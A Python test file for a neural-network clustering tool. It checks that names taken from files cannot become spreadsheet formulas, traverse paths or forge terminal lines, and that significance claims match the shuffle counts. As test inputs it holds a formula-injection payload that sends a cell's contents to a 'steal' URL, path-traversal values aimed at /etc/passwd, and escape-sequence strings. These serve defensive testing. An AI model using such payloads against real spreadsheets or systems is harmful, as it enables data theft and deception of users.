"""Names that come from files (tags and profiles in model folders, layer names in model files)
reach tables, paths and the terminal: none may run as a spreadsheet formula, name a path or
write escape sequences, and the significance a test claims must hold."""

from __future__ import annotations

import json
import math
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from error_lines import one_error_line
from fake_models import write_fake_instance

from nn_clustering import cli
from nn_clustering.errors import printable
from nn_clustering.storage.tables import write_table

openpyxl = pytest.importorskip("openpyxl")

FORMULAS = ['=HYPERLINK("http://host/steal?d="&A1, "MNIST")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]



# --------------------------------------------------------------------------- formulas in tables


def test_no_cell_of_a_written_table_is_a_formula(tmp_path):
    table = pd.DataFrame({"tag": FORMULAS, "profile": ["quick"] * len(FORMULAS),
                          "z": np.linspace(-3.5, 2.0, len(FORMULAS)), "n": range(len(FORMULAS))})
    csv, xlsx = write_table(table, tmp_path / "t.csv")
    sheet = openpyxl.load_workbook(xlsx).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    tags = [sheet.cell(row=i + 2, column=1).value for i in range(len(FORMULAS))]
    # shown as text, the content kept after the quote (XML stores a carriage return as a newline)
    assert tags == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    z = [sheet.cell(row=i + 2, column=3).value for i in range(len(FORMULAS))]
    assert z == pytest.approx(table["z"].tolist()) and all(isinstance(v, int | float) for v in z)  # numbers stay numbers
    read = pd.read_csv(csv)
    assert read["tag"].tolist() == ["'" + f for f in FORMULAS] and read["z"].tolist() == pytest.approx(table["z"])
    assert read["profile"].tolist() == ["quick"] * len(FORMULAS)


# --------------------------------------------------------------------------- names from model folders


def tamper(folder: Path, change) -> None:
    config = json.loads((folder / "config.json").read_text())
    change(config)
    (folder / "config.json").write_text(json.dumps(config))


@pytest.mark.parametrize(("change", "said"), [
    (lambda c: c["spec"].update(tag=FORMULAS[0]), "names the tag"),
    (lambda c: c.update(profile="=1+1"), "names the profile"),
    (lambda c: c["spec"].update(dataset="../../../etc/passwd"), "the dataset"),
    (lambda c: c["spec"].update(arch="\x1b[31mcnn"), "the arch"),
    (lambda c: c.update(instance=7), "gives the instance"),
    (lambda c: c.update(instance="0"), "gives the instance"),
    (lambda c: c.pop("spec"), "not a record"),
])
def test_a_model_folder_with_foreign_names_is_refused_before_any_table(tmp_path, capsys, change, said):
    models = tmp_path / "models"
    folder = write_fake_instance(models, "MNIST", 0)
    tamper(folder, change)
    err = one_error_line(capsys, cli.main(["index", "--models-dir", str(models)]))
    assert said in err and str(folder) in err and "\x1b" not in err
    assert not (models / "INDEX.json").exists()


def test_a_folder_whose_tag_differs_from_its_name_is_refused(tmp_path):
    from nn_clustering.errors import ModelError
    from nn_clustering.experiments import ExperimentPaths, run_mlp_clustering
    from nn_clustering.experiments.clustering import ClusteringConfig

    models = tmp_path / "models"
    folder = write_fake_instance(models, "MNIST", 0)
    folder.parent.rename(models / "FASHION")  # a FASHION folder whose record says MNIST
    with pytest.raises(ModelError, match="not a tag of this project's registry in a folder of that name"):
        run_mlp_clustering(ExperimentPaths(models, tmp_path / "results"), ClusteringConfig(n_shuffles=2),
                           progress=False, log=lambda _: None)
    assert not (tmp_path / "results" / "mlp-clustering.xlsx").exists()


def test_unknown_profile_names_no_file(capsys):
    from nn_clustering.errors import NnClusteringError
    from nn_clustering.registry import known_profiles, load_profile

    assert set(known_profiles()) >= {"quick", "paper"}
    for name in ("../profiles/quick", "quick/../paper", "/etc/passwd", "=1"):
        with pytest.raises(NnClusteringError, match="unknown profile"):
            load_profile(name)


# --------------------------------------------------------------------------- the terminal


def test_printable_escapes_every_control_and_format_character():
    text = "a\nb\r\x1b[2Kc\x07\x9b\u202ed\u2028e\tf é 中"
    shown = printable(text)
    assert shown == "a\\nb\\r\\x1b[2Kc\\x07\\x9b\\u202ed\\u2028e\\tf é 中"
    assert all(ch.isprintable() for ch in shown)


def test_layer_names_with_escapes_cannot_forge_lines(tmp_path, capsys):
    from safetensors.numpy import save_file

    rng = np.random.default_rng(0)
    forged = "0\nerror: \x1b[31mforged"
    save_file({f"{forged}.weight": rng.normal(size=(8, 12)), "1.weight": rng.normal(size=(4, 8))},
              str(tmp_path / "net.safetensors"))
    assert cli.main(["cluster", str(tmp_path / "net.safetensors"), "--k", "2", "--shuffles", "2", "--quiet"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and not any(line.startswith("error:") for line in out.splitlines())
    assert "layer 1 0\\nerror: \\x1b[31mforged: cluster sizes" in out
    # the same name in an error message is one escaped line
    save_file({f"{forged}.weight": rng.normal(size=(2,) * 6)}, str(tmp_path / "bad.safetensors"))
    err = one_error_line(capsys, cli.main(["cluster", str(tmp_path / "bad.safetensors"), "--quiet"]))
    assert "\\x1b[31mforged" in err and "\x1b" not in err


def test_progress_bar_and_result_lines_never_share_a_line(tmp_path):
    rng = np.random.default_rng(0)
    np.savez(tmp_path / "net.npz", rng.normal(size=(60, 40)), rng.normal(size=(40, 10)))
    done = subprocess.run([sys.executable, "-m", "nn_clustering", "cluster", str(tmp_path / "net.npz"), "--k", "3",
                           "--shuffles", "8"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                          env={**os.environ, "PYTHONUNBUFFERED": "1"}, timeout=300, check=True)
    lines = done.stdout.split("\n")
    result = [i for i, line in enumerate(lines) if "nodes in layers" in line]
    assert len(result) == 1 and lines[result[0]].startswith(str(tmp_path / "net.npz"))
    assert any("shuffles" in line and "8/8" in line for line in lines[:result[0]])  # the bar, on lines of its own


# --------------------------------------------------------------------------- significance


def test_too_few_shuffles_make_no_claim_and_a_flat_null_has_no_z(tmp_path, capsys):
    np.savez(tmp_path / "net.npz", np.ones((6, 4)), np.ones((4, 2)))  # every shuffle of all-ones is itself
    for n in (1, 2):
        assert cli.main(["cluster", str(tmp_path / "net.npz"), "--k", "2", "--shuffles", str(n), "--quiet",
                         "--output", str(tmp_path / f"r{n}.json")]) == 0
        out = capsys.readouterr().out
        assert "no significance claim" in out and "use at least 19 shuffles" in out
        assert "-> significantly" not in out and "inf" not in out
        assert "z undefined" in out
        shuffle = json.loads((tmp_path / f"r{n}.json").read_text())["shuffle"]
        assert shuffle["z"] is None and shuffle["significant"] is False and shuffle["level"] == 0.05


def test_the_level_decides_the_claim(tmp_path, capsys):
    from test_spectral import planted_mlp

    kernels, _ = planted_mlp(np.random.default_rng(0))
    np.savez(tmp_path / "planted.npz", *kernels)
    claims = {}
    for level in ("0.05", "0.01"):
        assert cli.main(["cluster", str(tmp_path / "planted.npz"), "--shuffles", "20", "--level", level,
                         "--quiet"]) == 0
        claims[level] = capsys.readouterr().out
    assert "p 0.04762 <= 0.05, below all 20 shuffles -> significantly more clusterable" in claims["0.05"]
    assert "no significance claim: 20 shuffles cannot reach p <= 0.01" in claims["0.01"]
    assert "use at least 99 shuffles" in claims["0.01"]
    for bad in ("0", "1", "-0.1", "nan"):
        err = one_error_line(capsys, cli.main(["cluster", str(tmp_path / "planted.npz"), "--level", bad]))
        assert "--level" in err and "between 0 and 1" in err
    assert math.isclose(1 / 21, 0.047619, rel_tol=1e-4)
